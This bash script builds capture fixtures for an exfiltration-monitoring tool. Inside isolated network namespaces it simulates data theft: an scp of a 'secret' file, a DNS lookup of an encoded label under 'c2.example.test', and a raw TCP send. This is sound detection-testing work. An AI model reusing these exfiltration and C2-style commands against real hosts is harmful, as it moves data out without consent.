#!/usr/bin/env bash
# Regenerates every capture fixture in pcaps/, then pcaps/expected.json and the
# generated table in pcaps/README.md. Run as root from anywhere:
#
#   sudo pcaps/make.sh            # everything
#   sudo pcaps/make.sh synth      # only the synthetic files (no root needed)
#   sudo pcaps/make.sh real       # only nflog-sample.pcap
#   pcaps/make.sh expected        # only expected.json + README table
#
# Idempotent: stale namespaces from an aborted run are removed first, test
# users are only created when missing, output files are overwritten.
#
# SAFETY: all traffic stays between two network namespaces created here
# (exf-in 10.77.0.2 / fd77::2  <-veth->  exf-out 10.77.0.1 / fd77::1).
# Neither namespace has a default route or any other interface but lo, so
# nothing can leave the machine. Everything started here is killed and both
# namespaces are deleted on EXIT (trap). The steps the capture scripts share
# (namespaces, processes, users, sshd, tcpdump) are in pcaps/lib.sh.
#
# Needs: nftables, tcpdump, tshark, openssh-server/-client, socat,
#        bind9-dnsutils (dig), dnsmasq-base, python3 (stdlib only).
#
# --------------------------------------------------------------------------
# How each file is made
#
# nflog-sample.pcap  REAL capture, link type 239 (NFLOG). Made by capture_real:
#     - netns exf-in / exf-out joined by veth exf-veth-in / exf-veth-out,
#       10.77.0.2/24 + fd77::2/64 (nodad) in exf-in, 10.77.0.1/24 + fd77::1/64
#       in exf-out; lo up in both.
#     - `nft -f nft/exfilmon.nft` inside exf-in (log group 7; DNS whole,
#       everything else snaplen 128).
#     - `tcpdump -i nflog:7 -U -Z root -w nflog-sample.pcap` in exf-in
#       (no -s: it would cut the NFLOG TLV record, not just the payload).
#     - in exf-out: sshd (own sshd_config/host key in a temp dir, listens on
#       10.77.0.1 and fd77::1, pubkey only), dnsmasq (--no-resolv, answers
#       *.example.test locally, listens on 10.77.0.1 and fd77::1), socat
#       TCP6 listener on [fd77::1]:9000 discarding its input.
#     - traffic, each run as `ip netns exec exf-in runuser -u USER -- ...`:
#         exfil-alice: scp of a 5 MiB pseudo-random file (seeded, so the
#                      content is reproducible) to 10.77.0.1 (IPv4, SFTP mode)
#         exfil-bob:   5 dig lookups (4 UDP incl. one over IPv6, 1 TCP) to
#                      the dnsmasq, `ssh 10.77.0.1 true`, and a python3
#                      TCP send of 4000 bytes to [fd77::1]:9000 (IPv6)
#         root:        ICMP echo x3 to 10.77.0.1 and ICMPv6 echo x2 to
#                      fd77::1 via pcaps/ping.py (raw sockets; no iputils here)
#     - 2 s pause (NFLOG flush timeout is 1 s), tcpdump stopped with SIGINT.
#     - side file nflog-sample.meta.json: uid of each test user on the
#       machine that made the capture, and the nft rule counters at the end
#       (packets/bytes per rule comment; should match the file's records).
#     The kernel's own packets (IPv6 ND/MLD, TCP RSTs/FINs after close) are
#     in the file too, without UID - as in real life.
#     The exact byte counts differ from run to run (TSO segmentation, timing),
#     so expected.json is regenerated from the file every time.
#
# Everything else is SYNTHETIC, written byte-by-byte by synth.py
# (deterministic: fixed timestamps from 2024-01-01T00:00:00Z, fixed
# documentation addresses 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
# 2001:db8::/32 - they are only bytes in a file, never sent anywhere):
#     eth-vlan.pcap, sll.pcap, sll2.pcap, raw.pcap, ipv4.pcap, ipv6.pcap,
#     truncated.pcap, nflog-synth.pcap, sample.pcapng, damaged.pcap,
#     truncated-tail.pcap - see the per-file comments in synth.py;
#     pcapng-edges.pcapng by pcapng_edges.py (its docstring lists the blocks;
#     not in expected.json: tests/replay.rs states its numbers).
#     hostile-html.pcap (markup in DNS names, for `report html`) is written
#     by hostile_html.py with synth.py's helpers; it is not in expected.json.
#
# expected.json / README table: expected.py parses every file itself AND
# with tshark and refuses to write anything if the two disagree.
# --------------------------------------------------------------------------
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
NS_IN=exf-in
NS_OUT=exf-out
# shellcheck source=lib.sh
. "$HERE/lib.sh"
USER_A=exfil-alice
USER_B=exfil-bob
WHAT="${1:-all}"

make_synth() {
	log "synthetic captures"
	"$PY" "$HERE/synth.py" "$HERE"
	"$PY" "$HERE/pcapng_edges.py" "$HERE"
	"$PY" "$HERE/hostile_html.py" "$HERE/hostile-html.pcap"
}

make_expected() {
	log "expected.json + README table"
	"$PY" "$HERE/expected.py" "$HERE"
}

# ---------------------------------------------------------------- real capture
cleanup() {
	stop_pids PIDS
	netns_del "$NS_IN" "$NS_OUT"
	[ -n "$TMP" ] && rm -rf "$TMP"
	return 0
}

capture_real() {
	need_root "the real capture: network namespaces, nft, tcpdump, test users"
	cleanup_on_exit cleanup
	cleanup   # stale state from an aborted run
	TMP="$(mktemp -d /tmp/exfilmon-pcap.XXXXXX)"
	chmod 711 "$TMP"

	log "namespaces + veth"
	netns_pair "$NS_IN" "$NS_OUT" exf-veth-in exf-veth-out 10.77.0.2/24 10.77.0.1/24 fd77::2/64 fd77::1/64

	log "users"
	ensure_user "$USER_A" "$USER_B"

	log "servers in $NS_OUT"
	sshd_start "$NS_OUT" "10.77.0.1 fd77::1" "$USER_A" "$USER_B"
	# alice's 5 MiB "secret": seeded pseudo-random bytes (reproducible content)
	"$PY" -c 'import random,sys; r=random.Random(7); sys.stdout.buffer.write(r.randbytes(5*1024*1024))' >"$TMP/$USER_A/secret.bin"
	chown "$USER_A:" "$TMP/$USER_A/secret.bin"
	spawn ip netns exec "$NS_OUT" dnsmasq --keep-in-foreground --conf-file=/dev/null \
		--no-resolv --no-hosts --no-dhcp-interface=exf-veth-out \
		--bind-interfaces --listen-address=10.77.0.1 --listen-address=fd77::1 \
		--address=/example.test/10.77.0.1 --address=/example.test/fd77::1 \
		--pid-file="$TMP/dnsmasq.pid" --log-facility=- --log-queries 2>"$TMP/dnsmasq.log"
	spawn ip netns exec "$NS_OUT" socat -u 'TCP6-LISTEN:9000,bind=[fd77::1],reuseaddr,fork' OPEN:/dev/null 2>"$TMP/socat.log"
	wait_port "$NS_OUT" u 53
	wait_port "$NS_OUT" t 9000

	log "ruleset + tcpdump in $NS_IN"
	# neighbour discovery before the ruleset/capture start (keeps the file
	# tidy; ND entries may still expire and be refreshed during the run)
	inside "$PY" "$HERE/ping.py" -c 1 10.77.0.1
	inside "$PY" "$HERE/ping.py" -c 1 fd77::1
	inside nft -f "$REPO/nft/exfilmon.nft"

	local out="$HERE/nflog-sample.pcap"
	capture_start "$TMP/nflog.pcap"
	sleep 0.5

	log "traffic: root ping"
	inside "$PY" "$HERE/ping.py" -c 3 10.77.0.1
	inside "$PY" "$HERE/ping.py" -c 2 fd77::1

	log "traffic: $USER_B dig / ssh / python IPv6 send"
	as_user "$USER_B" dig +short +tries=1 +time=2 @10.77.0.1 www.example.test A
	as_user "$USER_B" dig +short +tries=1 +time=2 @10.77.0.1 mail.example.test AAAA
	as_user "$USER_B" dig +short +tries=1 +time=2 @10.77.0.1 nbswy3dpeb3w64tmmqqq.c2.example.test TXT >/dev/null || true
	as_user "$USER_B" dig +short +tries=1 +time=2 @fd77::1 v6.example.test A
	as_user "$USER_B" dig +short +tcp +tries=1 +time=2 @10.77.0.1 tcp.example.test A
	as_user "$USER_B" ssh "${SSH_OPTS[@]}" -i "$TMP/$USER_B/id" "$USER_B@10.77.0.1" true
	as_user "$USER_B" "$PY" -c '
import socket
s = socket.create_connection(("fd77::1", 9000), timeout=5)
s.sendall(bytes(range(250)) * 16)   # 4000 bytes
s.shutdown(socket.SHUT_WR)
s.close()
'

	log "traffic: $USER_A scp 5 MiB"
	as_user "$USER_A" scp -q "${SSH_OPTS[@]}" -i "$TMP/$USER_A/id" \
		"$TMP/$USER_A/secret.bin" "$USER_A@10.77.0.1:$TMP/recv/secret.bin"
	cmp "$TMP/$USER_A/secret.bin" "$TMP/recv/secret.bin"

	sleep 2   # NFLOG flush timeout is 1 s; let the last batch arrive
	capture_stop
	cat "$TMP/tcpdump.log" >&2
	inside nft -j list table inet exfilmon >"$TMP/nft.json"
	mv "$TMP/nflog.pcap" "$out"
	chmod 644 "$out"
	# side file: who is who, and what nft's rule counters said at the end
	UID_A="$(id -u "$USER_A")" UID_B="$(id -u "$USER_B")" "$PY" - "$TMP/nft.json" >"$HERE/nflog-sample.meta.json" <<-'EOF'
		import json, os, sys
		nft = json.load(open(sys.argv[1]))["nftables"]
		counters = {}
		for item in nft:
		    r = item.get("rule")
		    if not r:
		        continue
		    for e in r["expr"]:
		        if "counter" in e:
		            counters[r.get("comment", "handle-%d" % r["handle"])] = {
		                "packets": e["counter"]["packets"], "bytes": e["counter"]["bytes"]}
		meta = {
		    "users": {"exfil-alice": int(os.environ["UID_A"]),
		              "exfil-bob": int(os.environ["UID_B"]), "root": 0},
		    "nft_counters": counters,
		}
		json.dump(meta, sys.stdout, indent=2, sort_keys=True)
		print()
	EOF

	log "uids in nflog-sample.pcap:"
	tshark -r "$out" -T fields -e nflog.uid 2>/dev/null | sort | uniq -c >&2
	cat "$HERE/nflog-sample.meta.json" >&2

	cleanup
	trap - EXIT INT TERM
}

case "$WHAT" in
all)      make_synth; capture_real; make_expected ;;
synth)    make_synth; make_expected ;;
real)     capture_real; make_expected ;;
expected) make_expected ;;
*) echo "usage: $0 [all|synth|real|expected]" >&2; exit 2 ;;
esac
log "done"
